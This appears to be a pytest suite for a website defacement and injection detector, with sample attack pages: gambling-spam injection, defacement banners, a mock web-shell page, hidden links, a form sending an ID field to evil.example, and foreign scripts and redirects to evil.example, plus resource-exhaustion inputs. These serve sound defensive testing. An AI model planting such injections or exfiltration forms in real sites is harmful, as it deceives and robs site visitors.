"""The judge tells attacks from Tuesday's news: small pages of our own, one for each way of either."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sentinel.kit.content.features import features_of
from sentinel.kit.content.fresh import Fresh, Known
from sentinel.kit.content.judge import Word, judge
from sentinel.kit.content.reason import Code
from tests.kit.content.pages import NEWS, WORDS, judged, page

SPAM = "Situs slot gacor maxwin hari ini, link alternatif judi online terpercaya bonus new member deposit pulsa"
LINKS = '<a href="https://slot88-raja.evil.example/daftar">slot gacor</a>'
HACKED = "<h1>Hacked by Kucing Hitam</h1><p>security is low, admin tidur</p>"
SHELL = (
    "<title>priv8</title><body><form enctype=multipart/form-data><input type=file></form><pre>uname -a: Linux "
    "| safe mode: off | /etc/passwd | chmod | execute command | upload file</pre></body>"
)


def bold(text: str) -> str:
    """The text in the bold letters of mathematics, which no list of words holds."""
    return "".join(chr(0x1D5EE + ord(c) - ord("a")) if c.isalpha() else c for c in text)


def partners(most: int) -> str:
    """Links to so many sites that nobody has seen on the page."""
    return "".join(f"<p><a href='https://dinas{chr(97 + n)}.example/berita'>Dinas</a></p>" for n in range(most))


THAI = "เว็บพนันออนไลน์ สล็อตเว็บตรง ฝากถอนไม่มีขั้นต่ำ แตกง่าย "

ATTACKS = {
    "an article of gambling": (page(body=f"<article><h2>Info</h2><p>{SPAM}</p></article>"), Word.INJECTED),
    "a gambling title": (page(title="Slot Gacor 🎰 Situs Judi Maxwin"), Word.INJECTED),
    "a gambling description": (page(head=f'<meta name="keywords" content="{SPAM}">'), Word.INJECTED),
    "in bold mathematics": (page(body=f"<p>{bold('slot gacor maxwin')}</p><p>t0gel, sl0ttt 0nline</p>"), Word.INJECTED),
    "with zero-width signs": (page(body="<p>ga\u200bcor max\u200bwin tog\u00adel</p>"), Word.INJECTED),
    "links in the foot": (page(body=f"<div>{LINKS * 3}</div>"), Word.INJECTED),
    "hidden links": (
        page(body='<div style="position:absolute;left:-9999px"><a href="https://kab.go.example/x">berita</a></div>'),
        Word.INJECTED,
    ),
    "links hidden by a class": (
        page(head="<style>.zz{display:none}</style>", body='<p class="zz"><a href="https://a.go.example/x">y</a></p>'),
        Word.INJECTED,
    ),
    "a page of spam": (f"<title>RAJA77: slot gacor maxwin</title><body>{f'<p>{SPAM}</p>' * 5}</body>", Word.INJECTED),
    "a defacer's page": (f"<title>Hacked By X</title><body>{HACKED}</body>", Word.DEFACED),
    "sixteen bytes": ("Hacked by Anon_X", Word.DEFACED),
    "a title in leet": (page(title="H4ck3d by Kucing"), Word.DEFACED),
    "a marquee on a living page": (page(body="<marquee>T0uched by Kucing Hitam</marquee>"), Word.DEFACED),
    "one post": (page(news=(*NEWS, "Pwned by Garuda Cyber Team, greetz to all")), Word.DEFACED),
    "a web shell": (SHELL, Word.DEFACED),
    "an overlay": (
        page(body='<div style="position:fixed;top:0;height:100%;width:100%;z-index:9999">By Mr.X</div>'),
        Word.CHANGED,
    ),
    "a foreign frame": (page(body='<iframe src="https://pay.evil.example/" width=0></iframe>'), Word.INJECTED),
    "a foreign form": (page(body='<form action="https://evil.example/x"><input name="nik"></form>'), Word.INJECTED),
    "a foreign script": (page(head='<script src="https://cdn.evil.example/a.js"></script>'), Word.CHANGED),
    "a library that was sold to attackers": (
        page(head='<script src="https://polyfill.io/v3/polyfill.min.js"></script>'),
        Word.CHANGED,
    ),
    "written text": (page(head='<script>document.write(atob("PGgxPg=="))</script>'), Word.INJECTED),
    "a leading script": (page(head='<script>window.location = "https://evil.example/"</script>'), Word.INJECTED),
    "a refresh": (page(head='<meta http-equiv=refresh content="0; url=https://evil.example/">'), Word.INJECTED),
    "another original": (page(head='<link rel=amphtml href="https://amp.evil.example/">'), Word.INJECTED),
    "a link to free hosting": (page(body='<p><a href="https://promo.github.io/x">info</a></p>'), Word.CHANGED),
    "links to many offices at once": (page(body=partners(6)), Word.CHANGED),
    "quite another page with an original elsewhere": (
        "<title>Toko Sepatu</title><link rel=canonical href=https://toko.example/><body>"
        + "".join(f"<li class=barang>Sepatu nomor {n}</li>" for n in range(90)),
        Word.CHANGED,
    ),
    "names made by a machine, beside a link": (
        page(body=f"<script>var _0x4be2=['a'];(function(a){{}})(_0x4be2)</script>{partners(1)}"),
        Word.CHANGED,
    ),
    "Thai beside a link": (page(body=f"<p>{THAI}</p>{partners(1)}"), Word.CHANGED),
    "Vietnamese beside a link": (
        page(body=f"<p>{'Đánh bạc trực tuyến uy tín đăng ký ' * 4}</p>{partners(1)}"),
        Word.CHANGED,
    ),
    "a Japanese title": (page(title="激安 ブランド 通販"), Word.CHANGED),
    "a name of the site for machines": (
        page(head=f"<meta property='og:site_name' content='{SPAM}'>"),
        Word.INJECTED,
    ),
    "quite another page": (
        "<title>Toko Sepatu</title><body>" + "".join(f"<li class=barang>Sepatu nomor {n}</li>" for n in range(90)),
        Word.CHANGED,
    ),
}
BENIGN = {
    "the same": page(),
    "a counter": page(body="<p>Pengunjung: 1.203.441</p>"),
    "fresh news": page(news=("Pengumuman hasil seleksi PPK sudah terbit dan dapat diunduh", *NEWS[:4])),
    "news about gambling": page(
        news=(*NEWS, "Kominfo blokir ribuan situs judi online, polisi tangkap bandar slot, warga diimbau waspada judi")
    ),
    "news about hacking": page(news=(*NEWS, "Situs dinas diretas oleh peretas, polisi selidiki dugaan pelaku")),
    "a video": page(body='<iframe src="https://www.youtube.com/embed/x"></iframe>'),
    "a magazine to leaf through": page(body='<iframe src="https://heyzine.com/flip-book/x.html"></iframe>'),
    "a link to another office": page(body='<p><a href="https://lombok.go.example/berita">Pemkab</a></p>'),
    "an Arabic verse beside a link": page(body=f"<p>{'بسم الله الرحمن الرحيم ' * 9}</p>{partners(1)}"),
    "Thai without a link": page(body=f"<p>{THAI}</p>"),
    "a list of languages beside a link": page(body=f"<p>日本語</p><p>ไทย</p><p>Русский</p><p>Türkçe</p>{partners(1)}"),
    "a few partners at once": page(body=partners(3)),
    "a script that leads on within the site": page(body="<script>var u='https://www.kpu.test/a';location=u</script>"),
    "a packed script": page(
        body="<script>eval(function(p,a,c,k,e,d){return p}('0(1)',9,2,'mulai|jam'.split('|'),0,{}))</script>"
    ),
    "a script with pieces of text": page(body="<script>t['ti'+'tle']='a'+'b'; if (a[0][1]) {(b)(!c)}</script>"),
    "telephones led to a page of the site": page(
        body="<script>if(/Android/.test(navigator.userAgent)){window.location.href='/m/'}</script>"
    ),
    "an anchor": page(body='<a href="https://www.kpu.test/unduh">unduhan</a>'),
    "a hidden menu": page(
        body='<nav style="display:none"><a href="/a">A</a><a href="https://www.kpu.test/">B</a></nav>'
    ),
    "the word slot": page(body="<p>Slot waktu pendaftaran: slot pertama, slot kedua, slot ketiga</p>"),
    "a login form": page(body='<form action="/masuk"><input type=password name=sandi></form>'),
    "Google's script": page(head="<script>var a = document.createElement('script'); a.src='x'</script>"),
}


@pytest.mark.parametrize(("after", "word"), ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_is_named(after: str, word: Word) -> None:
    verdict = judged(after)
    assert verdict.word is word, verdict
    assert all(reason.where or reason.code is Code.PAGE_REPLACED for reason in verdict.reasons)


@pytest.mark.parametrize("after", BENIGN.values(), ids=BENIGN.keys())
def test_ordinary_changes_are_churn(after: str) -> None:
    assert judged(after).word is Word.CLEAN


@pytest.mark.parametrize("said", ["Situs dalam pemeliharaan", "503 Service Unavailable", "Just a moment..."])
def test_a_wall_is_no_defacement(said: str) -> None:
    assert judged(f"<title>{said}</title><body><p>{said}</p></body>").word is Word.BLOCKED


def test_a_defacer_cannot_hide_behind_a_wall() -> None:
    assert judged(f"<title>Maintenance</title><body><p>dalam pemeliharaan</p>{HACKED}</body>").word is Word.DEFACED


@pytest.mark.parametrize("text", ["", "<html></html>", "<script>render()</script>", "\0\0\0"])
def test_nothing_to_read_is_unknown(text: str) -> None:
    assert judged(text).word is Word.UNKNOWN


def test_without_an_earlier_page_only_plain_evidence_counts() -> None:
    def first(text: str) -> Word:
        return judge(Fresh(features_of(text), Known([])), WORDS).word

    assert first(page()) is Word.UNKNOWN
    assert first(page(body=f"<p>{SPAM}</p>")) is Word.INJECTED
    assert first(f"<title>Hacked by X</title>{HACKED}") is Word.DEFACED


def test_in_frozen_days_a_new_script_is_an_attack() -> None:
    after = page(head='<script src="https://cdn.evil.example/a.js"></script>')
    assert (judged(after).word, judged(after, frozen=True).word) == (Word.CHANGED, Word.INJECTED)


def test_what_any_earlier_page_had_is_not_new() -> None:
    link = page(body=LINKS)
    assert judged(link, link, page()).word is Word.CLEAN


def test_a_site_is_known_with_all_its_hosts() -> None:
    assert judged(page(head='<script src="https://cdn.kpu.test/a.js"></script>')).word is Word.CLEAN


@pytest.mark.slow
@given(st.text(max_size=400), st.text(max_size=400))
@settings(max_examples=150)
def test_whatever_a_page_holds_it_is_judged(before: str, after: str) -> None:
    assert judged(f"<p>{after}", before).word in Word
    assert judged(before, before).word in {Word.CLEAN, Word.UNKNOWN}


HOSTILE = {
    "deep": "<div>" * 60_000 + "x",
    "deep lists": "<UL>" * 400_000,
    "deep and up again": ("<section>" * 30_000 + "</section>" * 30_000) * 3,
    "unclosed links": "<a href='" * 60_000,
    "long classes": "<p class='" + "a " * 400_000,
    "a long number": "&#" + "9" * 500_000,
    "many scripts": "<script>" * 50_000,
    "many marks": "\u0300" * 700_000,
    "a word of scripts": "<script>" + "location" * 250_000,
    "open rules": "<style>" + ".a{" * 300_000,
    "leet": "a3" * 900_000,
    "links in a long style": f"<div style='{'a' * 1_500_000}'>{'<a href=//a.example>x</a>' * 4_000}",
    "headings in headings": "<h1><div>" * 500 + "kata " * 300_000,
    "links in links": "<a href=//a.example><object>" * 3_000 + "kata " * 300_000,
    "covers in covers": "<div style='position:fixed;height:100%;z-index:999'>" * 2_000 + "kata " * 300_000,
    "notes without end": "<style>" + "/*a" * 600_000,
    "letters escaped": f"<p style='{chr(92)}41 ' >" * 100_000,
    "loaders": "<script>createElement('script')" + "'//" * 600_000,
    "many attributes": f"<div {' '.join(f'a{number}=b' for number in range(90_000))}>",
    "attributes behind signs": "<div " + " ".join(f"a{number}='>'" for number in range(60_000)) + ">",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_page_costs_little(text: str) -> None:
    began = time.process_time()
    judged(text)
    assert time.process_time() - began < 6
